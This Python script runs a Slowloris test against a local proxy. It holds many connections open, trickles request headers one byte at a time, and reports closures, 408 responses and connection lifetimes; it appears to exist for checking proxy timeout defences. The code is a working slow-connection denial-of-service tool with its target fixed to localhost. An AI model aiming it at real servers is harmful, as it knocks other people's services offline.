#!/usr/bin/env python3
"""Slowloris: COUNT connections to 127.0.0.1:PORT, each sending a request head one byte every
INTERVAL seconds and never finishing it; a connection the proxy closes is replaced at once, so
COUNT are trickling for the whole of SECONDS. Prints one JSON line: how many connections were
opened, how many the proxy closed (and with how many 408s), the longest and the mean lifetime
of a closed one, how many were still open at the end (younger than the deadline), and the
trickler's own CPU seconds (it shares the machine with the proxy and wrk).

PATTERN is how the connections' bytes fall in time:
  spread    each connection at its own phase of INTERVAL (independent clients: 20 connections
            every 10 ms for 1,000 at 0.5 s)
  lockstep  every connection's byte at the same instant (one attacker's synchronised burst)

Usage: trickle.py PORT COUNT SECONDS [INTERVAL=0.5] [PATTERN=spread]
"""

import json
import resource
import selectors
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: slowloris\r\nUser-Agent: trickle\r\n" + b"X-Pad: " + b"p" * 4000
STEP = 0.01  # the spread pattern sends to one group of connections this often


class Trickler:
    def __init__(self, port, count):
        self.port = port
        self.selector = selectors.DefaultSelector()
        self.slots = [None] * count  # slot -> socket; a replacement keeps its slot (its phase)
        self.state = {}  # socket -> [slot, opened_at, bytes sent, bytes answered]
        self.opened = self.closed = self.answered_408 = 0
        self.lifetimes = []
        for slot in range(count):
            self.connect(slot)

    def connect(self, slot):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex(("127.0.0.1", self.port))
        self.slots[slot] = sock
        self.state[sock] = [slot, time.monotonic(), 0, b""]
        self.selector.register(sock, selectors.EVENT_READ)
        self.opened += 1

    def replace(self, sock):
        slot, started, _, answer = self.state.pop(sock)
        self.selector.unregister(sock)
        sock.close()
        self.closed += 1
        self.lifetimes.append(time.monotonic() - started)
        self.answered_408 += answer.startswith(b"HTTP/1.1 408")
        self.connect(slot)

    def read(self, timeout):
        for key, _ in self.selector.select(timeout=max(0.0, timeout)):
            sock = key.fileobj
            if sock not in self.state:
                continue
            try:
                data = sock.recv(65536)
            except BlockingIOError:
                continue
            except ConnectionResetError:
                data = b""
            if data:
                self.state[sock][3] += data
            else:
                self.replace(sock)

    def send_byte(self, slot):
        sock = self.slots[slot]
        state = self.state[sock]
        if state[2] < len(HEAD):
            try:
                state[2] += sock.send(HEAD[state[2] : state[2] + 1])
            except (BlockingIOError, OSError):
                pass

    def report(self):
        still_open = len(self.state)
        for sock in list(self.state):
            sock.close()
        usage = resource.getrusage(resource.RUSAGE_SELF)
        return {
            "opened": self.opened,
            "closed_by_proxy": self.closed,
            "answered_408": self.answered_408,
            "longest_lifetime_s": round(max(self.lifetimes, default=0.0), 3),
            "mean_lifetime_s": round(sum(self.lifetimes) / len(self.lifetimes), 3)
            if self.lifetimes
            else 0.0,
            "still_open": still_open,
            "trickler_cpu_s": round(usage.ru_utime + usage.ru_stime, 2),
        }


def main(port, count, seconds, interval, pattern):
    trickler = Trickler(port, count)
    step = interval if pattern == "lockstep" else STEP
    groups = max(1, round(interval / step))
    end = time.monotonic() + seconds
    next_send = time.monotonic()
    group = 0
    while time.monotonic() < end:
        trickler.read(min(next_send, end) - time.monotonic())
        if time.monotonic() >= next_send:
            for slot in range(group, count, groups):
                trickler.send_byte(slot)
            group = (group + 1) % groups
            next_send += step
    print(json.dumps(trickler.report()))


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]),
         float(sys.argv[4]) if len(sys.argv) > 4 else 0.5,
         sys.argv[5] if len(sys.argv) > 5 else "spread")
